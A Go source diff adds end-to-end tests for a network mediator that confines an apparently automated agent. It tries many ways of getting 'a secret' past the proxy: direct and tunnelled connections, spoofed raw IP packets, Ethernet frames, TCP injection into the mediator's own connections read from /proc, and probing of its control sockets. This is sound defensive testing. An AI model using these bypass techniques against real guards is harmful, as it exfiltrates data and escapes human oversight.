@@ -1,0 +1,431 @@
+package runs
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/tls"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"strconv"
+	"strings"
+	"syscall"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"golang.org/x/sys/unix"
+
+	"github.com/actionproof/mediator/test/e2e/kit"
+)
+
+// What the agent of the tests of guard can do. It trusts every certificate and follows no proxy variable.
+
+// agentPatience bounds what an agent waits for: briefly on a way that has to be closed, and may be so in silence.
+var agentPatience = 5 * time.Second
+
+// runWay is the agent's process.
+func runWay(args []string) int {
+	name := args[0]
+	try := allowed[name]
+	if try != nil {
+		agentPatience = kit.Patience
+	}
+	for _, w := range ways {
+		if w.name == name {
+			try = w.try
+		}
+	}
+	if try == nil {
+		fmt.Fprintf(os.Stderr, "there is no way %q\n", name)
+		return 1
+	}
+	if err := try(); err != nil {
+		fmt.Println(err)
+	}
+	return 0
+}
+
+// dial connects, sends text and waits for an answer.
+func dial(network, address, text string) func() error {
+	return func() error {
+		c, err := net.DialTimeout(network, address, agentPatience)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		return talk(c, text)
+	}
+}
+
+// talk sends text and returns nil if anything but a refusal of the mediator's comes back.
+func talk(c net.Conn, text string) error {
+	_ = c.SetDeadline(time.Now().Add(agentPatience))
+	if _, err := io.WriteString(c, text); err != nil {
+		return err
+	}
+	b := make([]byte, 4096)
+	n, err := c.Read(b)
+	if n == 0 {
+		return fmt.Errorf("no answer: %w", err)
+	}
+	if line, _, _ := bytes.Cut(b[:n], []byte("\r\n")); bytes.HasPrefix(line, []byte("HTTP/1.")) && !bytes.Contains(line, []byte(" 200 ")) {
+		return errors.New(string(line))
+	}
+	return nil
+}
+
+// send sends one datagram and waits for nothing.
+func send(network, address string) func() error {
+	return func() error {
+		c, err := net.Dial(network, address)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		_, err = io.WriteString(c, "a secret")
+		return err
+	}
+}
+
+// proxied sends text to the proxy.
+func proxied(lines ...string) func() error {
+	return dial("tcp", "127.0.0.1:8181", strings.Join(lines, "\r\n")+"\r\n\r\n")
+}
+
+// get asks the proxy for a URL.
+func get(url, host string) func() error { return proxied("GET "+url+" HTTP/1.1", "Host: "+host) }
+
+// connectTo asks the proxy for a tunnel.
+func connectTo(authority string) func() error {
+	return proxied("CONNECT "+authority+" HTTP/1.1", "Host: "+authority)
+}
+
+// inTunnel opens a tunnel through the proxy and goes on in it.
+func inTunnel(authority string, then func(net.Conn) error) func() error {
+	return func() error {
+		c, err := net.DialTimeout("tcp", "127.0.0.1:8181", agentPatience)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		if err := talk(c, "CONNECT "+authority+" HTTP/1.1\r\nHost: "+authority+"\r\n\r\n"); err != nil {
+			return fmt.Errorf("no tunnel: %w", err)
+		}
+		return then(c)
+	}
+}
+
+// straight connects to an address as if there was no mediator, and goes on there.
+func straight(address string, then func(net.Conn) error) func() error {
+	return func() error {
+		c, err := net.DialTimeout("tcp", address, agentPatience)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		return then(c)
+	}
+}
+
+func writing(lines ...string) func(net.Conn) error {
+	return func(c net.Conn) error { return talk(c, strings.Join(lines, "\r\n")+"\r\n\r\n") }
+}
+
+// withTLS shakes hands for a server name and goes on inside.
+func withTLS(name string, then func(net.Conn) error, protocols ...string) func(net.Conn) error {
+	return func(c net.Conn) error {
+		_ = c.SetDeadline(time.Now().Add(agentPatience))
+		inner := tls.Client(c, &tls.Config{ServerName: name, InsecureSkipVerify: true, NextProtos: protocols})
+		if err := inner.Handshake(); err != nil {
+			return fmt.Errorf("TLS: %w", err)
+		}
+		return then(inner)
+	}
+}
+
+// overHTTP2 sends one request with these header fields, as they are, and returns nil if its status is 200.
+func overHTTP2(fields ...string) func(net.Conn) error {
+	return func(c net.Conn) error {
+		_ = c.SetDeadline(time.Now().Add(agentPatience))
+		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+			return err
+		}
+		var block bytes.Buffer
+		enc := hpack.NewEncoder(&block)
+		for i := 0; i < len(fields); i += 2 {
+			_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
+		}
+		f := http2.NewFramer(c, c)
+		f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+		if err := errors.Join(f.WriteSettings(), f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true})); err != nil {
+			return err
+		}
+		for {
+			frame, err := f.ReadFrame()
+			switch h := frame.(type) {
+			case *http2.MetaHeadersFrame:
+				if status := h.PseudoValue("status"); status != "200" {
+					return errors.New("status " + status)
+				}
+				return nil
+			case *http2.RSTStreamFrame, *http2.GoAwayFrame:
+				return errors.New("refused by HTTP/2")
+			}
+			if err != nil {
+				return err
+			}
+		}
+	}
+}
+
+// client is the usual HTTP client with the proxy.
+func client(method, url string) func() error {
+	return func() error {
+		_ = os.Setenv("HTTPS_PROXY", "http://127.0.0.1:8181")
+		_ = os.Setenv("HTTP_PROXY", "http://127.0.0.1:8181")
+		return fetch(method, url)
+	}
+}
+
+func fetch(method, url string) error {
+	resolver := net.Dialer{Resolver: &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
+		return (&net.Dialer{}).DialContext(ctx, network, worldAddress+":53")
+	}}}
+	c := &http.Client{Timeout: 2 * agentPatience, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DialContext: resolver.DialContext, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
+	req, err := http.NewRequest(method, url, nil)
+	if err != nil {
+		return err
+	}
+	resp, err := c.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		return errors.New(resp.Status)
+	}
+	return nil
+}
+
+// nextEvent opens the pod's session for the next event, which comes each second.
+func nextEvent() error {
+	return get("http://mediator.internal/v1/event/next?wait=10s", "mediator.internal")()
+}
+
+// post makes the one post that a rule allows, for a fresh event.
+func post() error {
+	if err := nextEvent(); err != nil {
+		return err
+	}
+	return inTunnel(worldHost+":443", withTLS(worldHost, func(c net.Conn) error {
+		_ = c.SetDeadline(time.Now().Add(2 * agentPatience))
+		if _, err := io.WriteString(c, "POST /posts HTTP/1.1\r\nHost: "+worldHost+"\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"); err != nil {
+			return err
+		}
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			return err
+		}
+		defer resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			return errors.New(resp.Status)
+		}
+		return nil
+	}))()
+}
+
+// bySocket makes a socket by hand, and sends a payload to a destination.
+func bySocket(family, kind, protocol int, to unix.Sockaddr, payload []byte, options ...func(fd int) error) func() error {
+	return func() error {
+		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
+		if err != nil {
+			return fmt.Errorf("socket: %w", err)
+		}
+		defer unix.Close(fd)
+		for _, o := range options {
+			if err := o(fd); err != nil {
+				return fmt.Errorf("option: %w", err)
+			}
+		}
+		return unix.Sendto(fd, payload, 0, to)
+	}
+}
+
+func inet(address string, port int) *unix.SockaddrInet4 {
+	return &unix.SockaddrInet4{Addr: netip.MustParseAddr(address).As4(), Port: port}
+}
+
+// echoRequest is an ICMP echo request (RFC 792) with a right checksum.
+func echoRequest() []byte {
+	b := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, "a secret"...)
+	binary.BigEndian.PutUint16(b[2:], checksum(b))
+	return b
+}
+
+func checksum(b []byte) uint16 {
+	var sum uint32
+	for i := 0; i+1 < len(b); i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(b[i:]))
+	}
+	for sum > 0xffff {
+		sum = sum>>16 + sum&0xffff
+	}
+	return ^uint16(sum)
+}
+
+// ipv4Packet is a whole packet, its source as the agent likes.
+func ipv4Packet(protocol byte, from, to string, payload []byte) []byte {
+	src, dst := netip.MustParseAddr(from).As4(), netip.MustParseAddr(to).As4()
+	b := []byte{0x45, 0, 0, byte(20 + len(payload)), 0, 1, 0, 0, 64, protocol, 0, 0}
+	b = append(append(b, src[:]...), dst[:]...)
+	binary.BigEndian.PutUint16(b[10:], checksum(b))
+	return append(b, payload...)
+}
+
+// sourceRoute is the option (RFC 791) of a packet for one host that is to go by another.
+func sourceRoute(by, to string) []byte {
+	b := []byte{131, 11, 4}
+	for _, a := range []string{by, to} {
+		b = append(b, netip.MustParseAddr(a).AsSlice()...)
+	}
+	return append(b, 0)
+}
+
+// intrude sends a segment in a connection that the mediator has to the world. Every process of a pod can read which ones there are.
+func intrude() error {
+	if err := allowed["read by the proxy"](); err != nil { // so that there is one
+		return err
+	}
+	raw, err := os.ReadFile("/proc/self/net/tcp")
+	if err != nil {
+		return err
+	}
+	for line := range strings.Lines(string(raw)) {
+		fields := strings.Fields(line)
+		if len(fields) < 8 || fields[7] != fmt.Sprint(mediatorUID) || fields[3] != "01" || !strings.HasSuffix(fields[2], ":01BB") {
+			continue
+		}
+		from, err := strconv.ParseUint(fields[1][len(fields[1])-4:], 16, 16)
+		if err != nil {
+			return err
+		}
+		data := append(segment(uint16(from), 443), secret...)
+		data[13] = 0x18 // PSH and ACK
+		return bySocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, inet(worldAddress, 0), ipv4Packet(unix.IPPROTO_TCP, podAddress, worldAddress, data))()
+	}
+	return errors.New("the mediator has no connection")
+}
+
+// segment is a TCP SYN (RFC 9293) without a checksum that anybody would look at before it has left.
+func segment(from, to uint16) []byte {
+	b := make([]byte, 20)
+	binary.BigEndian.PutUint16(b[0:], from)
+	binary.BigEndian.PutUint16(b[2:], to)
+	b[4], b[12], b[13] = 42, 5<<4, 2
+	return b
+}
+
+// frame sends a whole Ethernet frame from a packet socket.
+func frame(options ...func(fd int) error) func() error {
+	return func() error {
+		dev, err := net.InterfaceByName("eth0")
+		if err != nil {
+			return err
+		}
+		datagram := append([]byte{0, 99, 0, 99, 0, 16, 0, 0}, "a secret"...)
+		b := append(bytes.Repeat([]byte{0xff}, 6), dev.HardwareAddr...)
+		b = append(append(b, 8, 0), ipv4Packet(unix.IPPROTO_UDP, podAddress, worldAddress, datagram)...)
+		to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: dev.Index, Halen: 6}
+		copy(to.Addr[:], b[:6])
+		return bySocket(unix.AF_PACKET, unix.SOCK_RAW, 0, to, b, options...)()
+	}
+}
+
+func option(level, name, value int) func(fd int) error {
+	return func(fd int) error { return unix.SetsockoptInt(fd, level, name, value) }
+}
+
+func options(raw []byte) func(fd int) error {
+	return func(fd int) error { return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, string(raw)) }
+}
+
+func bound(to unix.Sockaddr) func(fd int) error {
+	return func(fd int) error { return unix.Bind(fd, to) }
+}
+
+// multipath connects by Multipath TCP (RFC 8684).
+func multipath(address string, then func(net.Conn) error) func() error {
+	return func() error {
+		d := net.Dialer{Timeout: agentPatience / 4}
+		d.SetMultipathTCP(true)
+		c, err := d.Dial("tcp", address)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		return then(c)
+	}
+}
+
+// join joins a multicast group, which the kernel then tells the network.
+func join() error {
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(fd)
+	return unix.SetsockoptIPMreq(fd, unix.IPPROTO_IP, unix.IP_ADD_MEMBERSHIP, &unix.IPMreq{Multiaddr: [4]byte{239, 1, 2, 3}, Interface: netip.MustParseAddr(podAddress).As4()})
+}
+
+// fastOpen sends data in the SYN (RFC 7413).
+func fastOpen(address string, port int) func() error {
+	return func() error {
+		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
+		if err != nil {
+			return err
+		}
+		defer unix.Close(fd)
+		err = unix.Sendto(fd, []byte("a secret"), unix.MSG_FASTOPEN, inet(address, port))
+		if errors.Is(err, unix.EINPROGRESS) {
+			return nil
+		}
+		return err
+	}
+}
+
+// unixSockets looks for the mediator's sockets: those with a path, and the abstract ones that a pod's containers share.
+func unixSockets() error {
+	self, err := os.Executable()
+	if err != nil {
+		return err
+	}
+	var refused []string
+	for _, name := range []string{"serve", "trigger", "control"} {
+		path := strings.TrimSuffix(self, "mediator") + "run/" + name + ".sock"
+		if c, err := net.Dial("unix", path); err == nil {
+			c.Close()
+			return nil
+		} else if !errors.Is(err, syscall.EACCES) {
+			return err
+		}
+		refused = append(refused, name)
+	}
+	f, err := os.Open("/proc/self/net/unix")
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	for lines := bufio.NewScanner(f); lines.Scan(); {
+		if fields := strings.Fields(lines.Text()); len(fields) > 7 && strings.HasPrefix(fields[7], "@") {
+			return nil
+		}
+	}
+	return fmt.Errorf("permission denied for %v, and no abstract socket", refused)
+}
